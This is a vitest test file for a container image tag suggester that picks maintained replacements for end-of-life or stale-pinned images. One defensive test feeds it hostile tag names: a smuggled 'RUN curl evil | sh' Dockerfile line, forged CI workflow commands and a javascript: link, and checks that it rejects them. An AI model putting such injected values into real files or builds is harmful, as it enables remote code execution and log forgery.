import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  compareVersions,
  parseTagName,
  pinnedReference,
  suggestionFor,
  suggestTag,
  tagReference,
  type SuggestionInput,
  type SuggestOptions,
} from '../../src/check/judge/suggest';
import { HttpClient } from '../../src/http/client';
import { PlatformClient } from '../../src/platform/client';
import type { Tag } from '../../src/platform/schemas';
import { SEED, startEmulator, type Emulator } from '../emulator/index';

// The tag to move to from an end-of-life one, and the references to write.

const hex = (n: number) => n.toString(16).padStart(64, '0');
let counter = 0;
const tag = (name: string, deprecated = false): Tag => ({ name, digest: `sha256:${hex(++counter)}`, deprecated });
const tags = (live: string[], eol: string[] = []) => [...live.map((n) => tag(n)), ...eol.map((n) => tag(n, true))];
const suggest = (list: Tag[], eol: string) => suggestTag(list, eol)?.name ?? null;
/** The suggestion for `result` from a repo's listing (null: not fetched), as advice makes it. */
const suggestionOn = (result: SuggestionInput, list: Tag[] | null, options?: SuggestOptions) =>
  suggestionFor(result, () => (list && result.tag !== null ? suggestTag(list, result.tag, options) : null));

describe('parseTagName', () => {
  it.each([
    ['18', [18], null, ''],
    ['1.27', [1, 27], null, ''],
    ['3.12.8', [3, 12, 8], null, ''],
    ['1.2.3-r4', [1, 2, 3], 4, ''],
    ['1.2.3-r4-dev', [1, 2, 3], 4, '-dev'],
    ['1.27-dev', [1, 27], null, '-dev'],
    ['3.12-fips', [3, 12], null, '-fips'],
    ['3.12-fips-dev', [3, 12], null, '-fips-dev'],
    ['1.2-rc1', [1, 2], null, '-rc1'],
    ['latest', null, null, ''],
    ['latest-dev', null, null, '-dev'],
    ['latest-glibc', null, null, '-glibc'],
  ])('%s', (name, version, epoch, variant) => {
    expect(parseTagName(name)).toEqual({ version, epoch, variant });
  });

  it.each(['bookworm', 'openjdk-17', 'v1.2', '1..2', 'latestdev', ''])('%s is neither a version nor latest', (name) => {
    expect(parseTagName(name)).toBeNull();
  });
});

describe('compareVersions', () => {
  const cmp = (a: string, b: string) => Math.sign(compareVersions(parseTagName(a)!, parseTagName(b)!));
  it.each([
    ['1.9', '1.10', -1],
    ['1.10', '1.9', 1],
    ['2', '10', -1],
    ['1.2', '1.2.0', -1],
    ['1.2.3', '1.2.3-r1', -1],
    ['1.2.3-r2', '1.2.3-r10', -1],
    ['1.2.3-r4', '1.2.4', -1],
    ['3.12', '3.12', 0],
  ])('%s vs %s', (a, b, sign) => {
    expect(cmp(a, b)).toBe(sign);
  });
});

describe('suggestTag', () => {
  it('moves to the nearest newer version that is not deprecated', () => {
    const list = tags(['latest', '3.12', '3.13'], ['3.10', '3.11']);
    expect(suggest(list, '3.11')).toBe('3.12');
    expect(suggest(list, '3.10')).toBe('3.12');
  });

  it('compares version parts as numbers, not text', () => {
    expect(suggest(tags(['1.10', '1.2'], ['1.9']), '1.9')).toBe('1.10');
    expect(suggest(tags(['10', '9'], ['8']), '8')).toBe('9');
  });

  it('skips deprecated newer versions', () => {
    expect(suggest(tags(['1.27'], ['1.25', '1.26']), '1.25')).toBe('1.27');
  });

  it('keeps the variant', () => {
    const list = tags(
      ['latest', 'latest-dev', '1.27', '1.27-dev', '1.28-fips', '1.27-fips-dev'],
      ['1.26', '1.26-dev', '1.26-fips', '1.26-fips-dev'],
    );
    expect(suggest(list, '1.26')).toBe('1.27');
    expect(suggest(list, '1.26-dev')).toBe('1.27-dev');
    expect(suggest(list, '1.26-fips')).toBe('1.28-fips');
    expect(suggest(list, '1.26-fips-dev')).toBe('1.27-fips-dev');
  });

  it('keeps the precision when it can: a floating tag for a floating tag', () => {
    const list = tags(['3.12', '3.12.8', '3.12.9', '3.13'], ['3.11', '3.11.9']);
    expect(suggest(list, '3.11')).toBe('3.12');
    expect(suggest(list, '3.11.9')).toBe('3.12.9');
  });

  it('takes the newest version of the nearest line for a patch-level tag', () => {
    const list = tags(['17.0.0', '17.0.1', '17.0.12', '21.0.3'], ['11.0.5', '11.0.6']);
    expect(suggest(list, '11.0.5')).toBe('17.0.12');
  });

  it('stays on the line when a newer patch of it is maintained', () => {
    const list = tags(['1.25.4', '1.25.5', '1.26.0'], ['1.25.3']);
    expect(suggest(list, '1.25.3')).toBe('1.25.5');
  });

  it('handles build epochs (-rN)', () => {
    const list = tags(['1.2.3-r5', '1.2.3-r6', '1.2.4-r0'], ['1.2.3-r4']);
    expect(suggest(list, '1.2.3-r4')).toBe('1.2.3-r6');
    expect(suggest(tags(['1.2.4-r0', '1.2.4-r1', '1.3.0-r0'], ['1.2.3-r4']), '1.2.3-r4')).toBe('1.2.4-r1');
  });

  it('falls back to another precision when none of the same is newer', () => {
    expect(suggest(tags(['latest', '3.12', '3.13'], ['3.11.9']), '3.11.9')).toBe('3.12');
    expect(suggest(tags(['20.1.2', '22.0.0'], ['18']), '18')).toBe('20.1.2');
  });

  it('falls back to latest of the variant when no newer version is maintained', () => {
    expect(suggest(tags(['latest', 'latest-dev', '1.2'], ['1.3', '1.3-dev']), '1.3')).toBe('latest');
    expect(suggest(tags(['latest', 'latest-dev'], ['1.3-dev']), '1.3-dev')).toBe('latest-dev');
  });

  it('never suggests an older version', () => {
    expect(suggest(tags(['1.1', '1.2'], ['1.3']), '1.3')).toBeNull();
  });

  it('gives nothing when latest of the variant is missing or deprecated', () => {
    expect(suggest(tags(['latest'], ['1.3-dev']), '1.3-dev')).toBeNull();
    expect(suggest(tags([], ['latest', '1.3']), '1.3')).toBeNull();
    expect(suggest(tags(['latest-dev'], ['latest']), 'latest')).toBeNull();
  });

  it('gives nothing for a tag that is no version', () => {
    expect(suggest(tags(['latest', 'trixie'], ['bookworm']), 'bookworm')).toBeNull();
  });

  it('a deprecated latest of a variant moves nowhere, the other variants still work', () => {
    expect(suggest(tags(['latest'], ['latest-dev', '2-dev']), '2-dev')).toBeNull();
  });

  it('moves past a tag whose end is near, unless nothing else fits', () => {
    const list = tags(['latest', '3.12', '3.13'], ['3.11']);
    expect(suggestTag(list, '3.11', { ending: new Set(['3.12']) })?.name).toBe('3.13');
    expect(suggestTag(list, '3.11', { ending: new Set(['3.12', '3.13']) })?.name).toBe('latest');
    expect(suggestTag(list, '3.11', { ending: new Set(['3.12', '3.13', 'latest']) })?.name).toBe('3.12');
    expect(
      suggestionOn(
        {
          registry: 'cgr.dev',
          org: 'chainguard',
          image: 'python',
          tag: '3.11',
          pinnedDigest: null,
          digest: null,
          deprecated: true,
          status: 'eol',
        },
        list,
        { ending: new Set(['3.12']) },
      ),
    ).toBe('cgr.dev/chainguard/python:3.13');
  });

  it('returns the listed tag with its digest', () => {
    const list = tags(['1.27'], ['1.26']);
    expect(suggestTag(list, '1.26')).toBe(list[0]);
  });
});

describe('tag names from a hostile service', () => {
  it('never suggests a name outside the tag grammar (newlines, markup, spaces): the suggestion is written into files by update', () => {
    const hostile = [
      '1.28\n::error::forged',
      '1.28-dev\nRUN curl evil | sh',
      '1.29-dev [x](javascript:alert(1))',
      '1.30-dev @octocat',
      'latest-dev\n::stop-commands::x',
    ];
    const tags = [tag('1.27-dev', true), ...hostile.map((name) => tag(name))];
    expect(suggestTag(tags, '1.27-dev')).toBeNull();
    // With a maintained sibling beside them, that sibling is the one.
    expect(suggestTag([...tags, tag('1.28-dev')], '1.27-dev')?.name).toBe('1.28-dev');
  });
});

describe('references', () => {
  const name = { registry: 'cgr.dev', org: 'chainguard', image: 'nginx' };
  const digest = `sha256:${hex(7)}`;

  it('tagReference and pinnedReference', () => {
    expect(tagReference(name, '1.27')).toBe('cgr.dev/chainguard/nginx:1.27');
    expect(pinnedReference(name, '1.27', digest)).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
  });

  const base: SuggestionInput = {
    ...name,
    tag: '1.26',
    pinnedDigest: null,
    digest: `sha256:${hex(1)}`,
    deprecated: true,
    status: 'eol',
  };
  const list = [tag('1.27'), tag('1.26', true)];

  it('an end-of-life tag: the maintained tag, pinned when the reference was', () => {
    expect(suggestionOn(base, list)).toBe('cgr.dev/chainguard/nginx:1.27');
    expect(suggestionOn({ ...base, pinnedDigest: `sha256:${hex(2)}` }, list)).toBe(
      `cgr.dev/chainguard/nginx:1.27@${list[0]!.digest}`,
    );
    expect(suggestionOn(base, null)).toBeNull();
    expect(suggestionOn(base, [tag('1.26', true)])).toBeNull();
  });

  it('a stale pin: the same tag at its current digest', () => {
    const stale: SuggestionInput = {
      ...base,
      tag: '1.27',
      deprecated: false,
      status: 'stale',
      pinnedDigest: `sha256:${hex(2)}`,
      digest,
    };
    expect(suggestionOn(stale, list)).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
    expect(suggestionOn({ ...stale, status: 'ok' }, list)).toBeNull();
    expect(suggestionOn({ ...stale, digest: null, status: 'stale' }, list)).toBeNull();
  });

  it('suggestionFor asks for the tag to move to only for an end-of-life tag', () => {
    const asked: string[] = [];
    const nextTag = (name: string) => () => (asked.push(name), list[0]!);
    expect(suggestionFor(base, nextTag('eol'))).toBe('cgr.dev/chainguard/nginx:1.27');
    const stale: SuggestionInput = {
      ...base,
      tag: '1.27',
      deprecated: false,
      status: 'stale',
      pinnedDigest: `sha256:${hex(2)}`,
      digest,
    };
    expect(suggestionFor(stale, nextTag('stale'))).toBe(`cgr.dev/chainguard/nginx:1.27@${digest}`);
    expect(suggestionFor({ ...stale, status: 'ok' }, nextTag('ok'))).toBeNull();
    expect(asked).toEqual(['eol']);
  });
});

describe('the seed catalog, over the emulator', () => {
  let emu: Emulator;
  let http: HttpClient;
  beforeAll(async () => {
    emu = await startEmulator();
    http = new HttpClient({ timeoutMs: 5_000 });
  });
  afterAll(async () => {
    await http.close();
    await emu.close();
  });

  it('suggests a maintained tag of the same variant for every end-of-life tag that has one', async () => {
    expect(SEED.deprecatedTags.length).toBeGreaterThan(0);
    const suggestions: Record<string, string | null> = {};
    for (const { org, image, tag: eol } of SEED.deprecatedTags) {
      const client = new PlatformClient({
        http,
        apiUrl: emu.url,
        token: emu.apiToken,
        group: org === SEED.privateOrg ? emu.rootGroup : undefined,
      });
      const [repo] = await client.findRepos(org, image);
      const listed = await client.listTags(repo!.uid);
      const next = suggestTag(listed, eol);
      suggestions[`${org}/${image}:${eol}`] = next?.name ?? null;
      expect(next, `${org}/${image}:${eol}`).not.toBeNull();
      expect(next!.deprecated).toBe(false);
      expect(parseTagName(next!.name)!.variant).toBe(parseTagName(eol)!.variant);
      expect(compareVersions(parseTagName(next!.name)!, parseTagName(eol)!)).toBeGreaterThan(0);
      // The digest is the listing's: what a pinned reference moves to.
      expect(listed.find((t) => t.name === next!.name)!.digest).toBe(next!.digest);
    }
    expect(suggestions).toMatchObject({
      'chainguard/nginx:1.26': '1.27',
      'chainguard/nginx:1.25': '1.27',
      'chainguard/python:3.11': '3.12',
      'chainguard/go:1.22': '1.23',
      'chainguard/node:18': '20',
      'chainguard/jdk:11.0.0': '17.0.99',
      'acme.com/python-fips:3.11': '3.12',
      'acme.com/go-fips:1.22': '1.23',
    });
  });
});
